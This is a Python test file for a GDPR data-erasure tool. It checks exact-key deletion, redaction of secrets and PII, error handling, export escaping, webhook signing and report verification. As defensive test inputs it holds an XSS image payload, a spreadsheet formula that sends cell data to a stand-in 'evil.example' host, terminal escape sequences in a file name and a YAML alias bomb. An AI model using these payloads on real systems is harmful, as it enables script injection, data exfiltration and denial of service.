"""Issue 13, the names, values and callers: cascades that must hit exactly the subject, secrets
and PII that must not reach logs, exceptions that must end as one logged line, lineage files,
names that must not become markup, HTML or formulas, webhooks, report files."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import ClassVar

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import redis
import tantivy
from click.testing import CliRunner

from optout.cli.main import cli
from optout.engine.cascade.run import run_cascade
from optout.engine.cascade.spec import RedisSpec, TantivySpec, WebhookSpec
from optout.engine.erasure_report import ReportError, build_report, verify_report
from optout.scanner.access import Principal, audit
from optout.scanner.access.principals import init_catalog
from optout.scanner.catalog import Catalog

ROOT = Path(__file__).resolve().parent.parent
POLICY = ROOT / "policies" / "gdpr-erasure.yaml"
ADMIN = Principal("admin", frozenset({"admin"}))


@pytest.fixture()
def catalog(tmp_path: Path) -> tuple[Catalog, CliRunner]:
    catalog = Catalog(str(tmp_path / "c.duckdb"))
    return catalog, CliRunner(env={"OPTOUT_TOKEN": init_catalog(catalog)})


def _one_error(result, text: str) -> None:
    errors = [line for line in result.output.splitlines() if line.startswith("Error")]
    assert result.exit_code != 0 and len(errors) == 1 and text in errors[0], result.output


# -- 2. cascades fill templates with the value as the request carries it ---------------------

def test_cascades_delete_exactly_the_subjects_keys_and_documents(tmp_path: Path,
                                                                 catalog) -> None:
    """For `user_id=u-42a`, the old code filled `user:U42A:*` (the value as a normalized code):
    another user's keys went, the subject's stayed. Now `raw`: exactly `u-42a`, whatever the
    case, dashes or UUIDs of the others."""
    catalog, _ = catalog
    ns = f"t{uuid.uuid4().hex[:8]}:"
    r = redis.Redis()
    uid = "3f2b8c1e-9a4d-4e0b-8c61-2b7d9e5f1a00"
    keys = {f"{ns}user:u-42a:profile": True, f"{ns}user:u-42a:cart": True,
            f"{ns}user:U42A:profile": False, f"{ns}user:u42a:profile": False,
            f"{ns}user:u-42a*:x": False, f"{ns}sess:{uid}": True,
            f"{ns}sess:{uid.upper()}": False, f"{ns}sess:{uid.replace('-', '')}": False}
    for key in keys:
        r.set(key, "x")
    index_path = tmp_path / "index"
    index_path.mkdir()
    schema = tantivy.SchemaBuilder()
    schema.add_text_field("user", stored=True, tokenizer_name="raw")
    index = tantivy.Index(schema.build(), path=str(index_path))
    writer = index.writer()
    for user in ("u-42a", "u-42a", "U42A", "u42a", "ab-12", "AB12"):
        writer.add_document(tantivy.Document(user=user))
    writer.commit()
    writer.wait_merging_threads()
    specs = [RedisSpec(name="cache", kind="redis", keys=[f"{ns}user:{{user_id}}:*",
                                                         f"{ns}sess:{{session}}"]),
             TantivySpec(name="search", kind="tantivy", path=str(index_path), field="user",
                         identifier="user_id")]
    try:
        failures = run_cascade(catalog, "r-1", specs, {"user_id": "u-42a", "session": uid})
        assert failures == []
        left = {k.decode() for k in r.scan_iter(match=f"{ns}*")}
        assert left == {k for k, subject in keys.items() if not subject}
        index = tantivy.Index.open(str(index_path))
        index.reload()
        remaining = sorted(index.searcher().doc(a)["user"][0] for _, a in
                           index.searcher().search(tantivy.Query.all_query(), 10).hits)
        assert remaining == ["AB12", "U42A", "ab-12", "u42a"]
    finally:
        for key in r.scan_iter(match=f"{ns}*"):
            r.delete(key)


# -- 5. secrets and PII kept out of the audit log, errors and exports ------------------------

def test_no_password_or_subject_in_the_audit_log(tmp_path: Path, catalog) -> None:
    catalog, runner = catalog
    uri = "postgresql://postgres:hunter2-secret@127.0.0.1:1/nowhere"
    runner.invoke(cli, ["--catalog", catalog.path, "scan", uri])
    runner.invoke(cli, ["--catalog", catalog.path, "plan", "--subject", "ana@example.org",
                        "--policy", str(POLICY)])
    runner.invoke(cli, ["--catalog", catalog.path, "plan", "--subject",
                        "phone=+1 415 555 0123", "--policy", str(POLICY)])
    exported = runner.invoke(cli, ["--catalog", catalog.path, "audit", "export"]).output
    stored = str(duckdb.connect(catalog.path, read_only=True).execute(
        "SELECT * FROM audit_log").fetchall())
    for text in (exported, stored):
        assert "hunter2" not in text and "ana@example.org" not in text
        assert "555 0123" not in text and "5550123" not in text
        assert "postgres:***@127.0.0.1:1/nowhere" in text
        assert '"?=hmac:' in text  # the subject typed without KEY=


def test_engine_errors_quoting_values_reach_no_catalog_field(tmp_path: Path, catalog,
                                                             classifier) -> None:
    """A JSON Lines file whose record breaks the reader's inferred type: DuckDB quotes the
    record in its error. The catalog's error field and the export keep no value of it."""
    from optout.scanner.scan import scan

    catalog, runner = catalog
    data = tmp_path / "data"
    data.mkdir()
    bad = data / "people.json"
    bad.write_text('[{"id": 1, "ssn": "123-45-6789", "name": "Ana Silva"},\n'
                   ' {"id": 2, "ssn": "987-65-4321", "name": "Ben Okafor", broken}]\n')
    report = scan([str(data)], catalog, classifier=classifier, caller=ADMIN)
    assert report.failed
    exported = runner.invoke(cli, ["--catalog", catalog.path, "catalog", "export"]).output
    errors = str(duckdb.connect(catalog.path, read_only=True).execute(
        "SELECT error FROM scan_errors").fetchall())
    for text in (exported, errors, str([r.error for r in report.results])):
        for value in ("123-45-6789", "987-65-4321", "Ana Silva", "Ben Okafor"):
            assert value not in text


# -- 6. every exception ends as one logged, redacted line --------------------------------------

def test_a_name_that_looks_like_markup_and_an_int32_key_hashed(tmp_path: Path, catalog,
                                                               classifier) -> None:
    """A column named `e-mail[/x]` crashed `catalog list` (rich markup); hashing an INT32 key
    under anonymize-only raised ArrowInvalid out of apply. Both work now."""
    from optout.scanner.scan import scan

    catalog, runner = catalog
    data = tmp_path / "data"
    data.mkdir()
    pq.write_table(pa.table({
        "customer_id": pa.array(range(1, 41), pa.int32()),
        "e-mail[/x]": [f"user{i}@example.com" for i in range(1, 41)],
        "name": [f"Given{i} Family{i}" for i in range(1, 41)]}), data / "people.parquet")
    scan([str(data)], catalog, classifier=classifier, caller=ADMIN)
    listed = runner.invoke(cli, ["--catalog", catalog.path, "catalog", "list", "--pii"])
    assert listed.exit_code == 0 and "e-mail[/x]" in listed.output, listed.output
    plan = tmp_path / "plan.json"
    made = runner.invoke(cli, ["--catalog", catalog.path, "plan", "--subject",
                               "email=user7@example.com", "--policy",
                               str(ROOT / "policies" / "anonymize-only.yaml"), "-o", str(plan)])
    assert made.exit_code == 0, made.output
    applied = runner.invoke(cli, ["--catalog", catalog.path, "apply", str(plan), "--yes"])
    assert applied.exit_code in (0, 3), applied.output
    if applied.exit_code == 3:  # the admin made the plan: it needs another approver first
        assert "approvals its policy requires" in applied.output
        from optout.engine.approvals import approve
        from optout.model.plan import load_plan

        approve(catalog, load_plan(plan), Principal("second", frozenset({"approver"})))
        applied = runner.invoke(cli, ["--catalog", catalog.path, "apply", str(plan), "--yes"])
    assert applied.exit_code == 0, applied.output
    table = pq.read_table(data / "people.parquet")
    assert table.schema.field("customer_id").type == pa.int32()
    row = table.to_pylist()[6]
    assert row["e-mail[/x]"] != "user7@example.com" and row["customer_id"] != 7
    assert 0 <= row["customer_id"] < 2**31


def test_an_unexpected_exception_is_one_logged_line(tmp_path: Path, catalog,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """Anything a command raises (here a TypeError from deep inside) is `Error: internal
    error (...)`, exit 1, and a `failed` audit entry with the redacted reason."""
    import optout.session.data as session_data  # where `graph` builds the identity graph

    catalog, runner = catalog

    def broken(*args, **kwargs):
        raise TypeError("unhashable type: 'list' near ana@example.org")

    monkeypatch.setattr(session_data, "build_graph", broken)
    result = runner.invoke(cli, ["--catalog", catalog.path, "graph"])
    _one_error(result, "internal error (TypeError: unhashable type: '…' near <email>)")
    last = list(audit.entries(catalog))[-1]
    assert (last.command, last.outcome) == ("graph", "failed")
    assert "ana@example.org" not in (last.detail or "")


def test_control_characters_in_names_never_reach_the_terminal(tmp_path: Path,
                                                              catalog) -> None:
    catalog, runner = catalog
    hostile = tmp_path / "evil\x1b]0;pwned\x07\x1b[2J.csv"
    result = runner.invoke(cli, ["--catalog", catalog.path, "catalog", "show", hostile.name])
    assert result.exit_code == 1 and "\x1b" not in result.output and "\\x1b" in result.output


# -- 7. declared lineage is validated ----------------------------------------------------------

def test_bad_and_hostile_lineage_files_are_one_line_errors(tmp_path: Path, catalog) -> None:
    catalog, runner = catalog
    bad = tmp_path / "lineage.yaml"
    bad.write_text("lineage:\n  - downstream: a\n    upstream: b\n    columns:\n"
                   "      x: {from: [[email]]}\n")
    result = runner.invoke(cli, ["--catalog", catalog.path, "lineage", "add", str(bad)])
    _one_error(result, "line 5: lineage.0.columns.x.from.0: Input should be a valid string")
    bomb = "a: &a [" + ",".join(['"lol"'] * 9) + "]\n"
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        bomb += f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]\n"
    bad.write_text(bomb + "lineage: []\n")
    start = time.monotonic()
    result = runner.invoke(cli, ["--catalog", catalog.path, "lineage", "add", str(bad)])
    assert time.monotonic() - start < 5
    _one_error(result, "anchors and aliases are not supported")
    assert runner.invoke(cli, ["--catalog", catalog.path, "graph"]).exit_code == 0


# -- 8. names never become HTML in Markdown or formulas in a spreadsheet -----------------------

def test_names_are_escaped_in_markdown_and_csv_exports(tmp_path: Path, catalog,
                                                       classifier) -> None:
    from optout.scanner.scan import scan

    catalog, runner = catalog
    data = tmp_path / "data"
    data.mkdir()
    name = '<img src=x onerror=alert(1)>'
    (data / f"{name}.csv").write_text(
        '=HYPERLINK("http://evil.example/?"&A1),email\n'
        + "".join(f"{i},user{i}@example.com\n" for i in range(30)))
    scan([str(data)], catalog, classifier=classifier, caller=ADMIN)
    exported = runner.invoke(cli, ["--catalog", catalog.path, "catalog", "export", "--format",
                                   "csv"])
    assert exported.exit_code == 0, exported.output
    cells = [c for row in csv.reader(io.StringIO(exported.output)) for c in row]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
    md = runner.invoke(cli, ["--catalog", catalog.path, "plan", "--subject",
                             "email=user7@example.com", "--policy", str(POLICY), "--format",
                             "md"])
    assert md.exit_code == 0, md.output
    assert "<img" not in md.output and "&lt;img src=x onerror=alert(1)&gt;" in md.output


# -- 9. webhooks -------------------------------------------------------------------------------

class _Receiver(BaseHTTPRequestHandler):
    calls: ClassVar[list[tuple[str, str, dict, dict]]] = []

    def _answer(self, method: str) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length) or b"{}")
        _Receiver.calls.append((method, self.path, dict(self.headers), body))
        if self.path == "/moved":
            self.send_response(302)
            self.send_header("Location", "/elsewhere")
            self.end_headers()
            return
        self.send_response(200)
        self.end_headers()

    def do_POST(self) -> None:
        self._answer("POST")

    def do_GET(self) -> None:
        self._answer("GET")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture()
def receiver():
    _Receiver.calls = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Receiver)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


def test_webhooks_follow_no_redirect_send_current_entitlements_and_sign_time(
        catalog, receiver, monkeypatch: pytest.MonkeyPatch) -> None:
    catalog, _ = catalog
    monkeypatch.setenv("HOOK", "k3y")
    ids = {"email": "ana@example.org", "customer_id": "42"}
    moved = WebhookSpec(name="moved", kind="webhook", url=f"{receiver}/moved", secret_env="HOOK",
                        identifiers=["email"], retries=2, backoff=0.01)
    failures = run_cascade(catalog, "r-302", [moved], ids, backoff=0.01)
    assert failures and "HTTP 302 (redirects are not followed)" in failures[0]
    assert {(m, p) for m, p, _, _ in _Receiver.calls} == {("POST", "/moved")}

    # entitled to the raw email when first prepared; the entitlement is removed before the
    # retry that delivers: the delivered call carries hashes only
    entitled = WebhookSpec(name="crm", kind="webhook", url=f"{receiver}/down",
                           secret_env="HOOK", identifiers=["email"], retries=1, backoff=0.01)
    monkeypatch.setattr("optout.engine.cascade.webhook._OPENER.open",
                        lambda *a, **k: (_ for _ in ()).throw(OSError("connection refused")))
    assert run_cascade(catalog, "r-ent", [entitled], ids, backoff=0.01)
    monkeypatch.undo()
    monkeypatch.setenv("HOOK", "k3y")
    revoked = WebhookSpec(name="crm", kind="webhook", url=f"{receiver}/ok", secret_env="HOOK",
                          identifiers=[], retries=1, backoff=0.01)
    assert run_cascade(catalog, "r-ent", [revoked], ids, backoff=0.01) == []
    [(_, _, headers, body)] = [c for c in _Receiver.calls if c[1] == "/ok"]
    assert body["identifiers"] == {} and set(body["hashes"]) == {"email", "customer_id"}
    # the signature covers a timestamp and the request id: t=...,v1=...
    parts = dict(p.split("=", 1) for p in headers["X-Optout-Signature"].split(","))
    assert abs(time.time() - int(parts["t"])) < 60
    payload = json.dumps(body, sort_keys=True).encode()
    expected = hmac.new(b"k3y", f"{parts['t']}.r-ent.".encode() + payload,
                        hashlib.sha256).hexdigest()
    assert parts["v1"] == expected and headers["X-Optout-Request"] == "r-ent"
    replayed = hmac.new(b"k3y", f"{int(parts['t']) - 3600}.r-ent.".encode() + payload,
                        hashlib.sha256).hexdigest()
    assert replayed != parts["v1"]  # an old t cannot be reused with this signature


# -- 11. report files ----------------------------------------------------------------------------

def test_a_report_with_duplicate_keys_is_refused_and_its_key_is_its_own(tmp_path: Path,
                                                                        classifier) -> None:
    from optout.engine.apply import ApplyOptions, apply_plan
    from optout.engine.planner import PlanRequest, build_plan
    from optout.engine.policy import load_policy
    from optout.engine.subjects import parse_subject
    from optout.scanner.scan import scan

    data = tmp_path / "data"
    data.mkdir()
    (data / "people.csv").write_text("id,email\n" + "".join(
        f"{i},user{i}@example.com\n" for i in range(30)))
    catalog = Catalog(str(tmp_path / "c.duckdb"))
    scan([str(data)], catalog, classifier=classifier)
    plan = build_plan(catalog, PlanRequest([parse_subject("email=user7@example.com")],
                                           load_policy(POLICY), str(POLICY)))
    rid = apply_plan(catalog, plan, ApplyOptions())
    report = build_report(catalog, rid, Principal("a", frozenset({"auditor"})))
    path = tmp_path / "report.json"
    text = json.dumps(report)
    path.write_text(text)
    assert verify_report(catalog, str(path), Principal("a", frozenset({"auditor"})))
    # a second "status" after the first: a first-key reader and a last-key reader disagree
    path.write_text(text.replace('"status": "complete"',
                                 '"status": "complete", "status": "blocked"', 1))
    with pytest.raises(ReportError, match="has the key 'status' twice"):
        verify_report(catalog, str(path), Principal("a", frozenset({"auditor"})))
    body = {k: v for k, v in report.items() if k != "signature"}
    canonical = json.dumps(body, sort_keys=True, separators=(",", ":"), default=str).encode()
    with_identifier_key = hmac.new(catalog.hasher().secret, canonical,
                                   hashlib.sha256).hexdigest()
    assert report["signature"] != with_identifier_key
